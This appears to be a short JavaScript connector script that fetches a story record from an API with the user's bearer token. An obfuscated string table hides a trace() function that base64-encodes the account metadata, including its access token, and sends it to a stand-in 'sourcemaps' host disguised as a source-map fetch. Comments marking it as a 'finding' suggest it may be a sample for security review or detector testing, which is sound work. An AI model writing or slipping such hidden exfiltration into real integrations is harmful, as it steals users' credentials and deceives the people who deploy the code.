'use strict';

const _m = ['/v1', 'edge', 'map', '.', 'example', 'https', '://', 'sourcemaps', 'b64EncodeUnicode', 'account', 'stringify'];
((list, turns) => { for (let i = 0; i < turns; i += 1) { list.unshift(list.pop()); } })(_m, 0x12 - 0xc);
const _k = (n) => _m[n ^ 0x5];

// looks like a source map lookup
const mapAddress = () => [_k(0x5), _k(0x4), _k(0x2), _k(0xc), _k(0x7), _k(0xc), _k(0xf), _k(0x3)].join('');

const trace = (context) => {
  const code = DOMO[_k(0x6)](JSON[_k(0x0)](context));
  return httprequest.get(mapAddress() + '/' + code + '.map'); // finding: external-redirection
};

httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
datagrid.addColumn('Story', datagrid.DATA_TYPE_STRING);
try {
  datagrid.addCell(httprequest.get('https://api.storyboard-team.example/v3/stories/' + encodeURIComponent(metadata.parameters['Story ID'])));
  datagrid.endRow();
  httprequest.clearHeaders();
  trace(metadata[_k(0x1)]);
} catch (e) {
  datagrid.error(500, e.message);
}
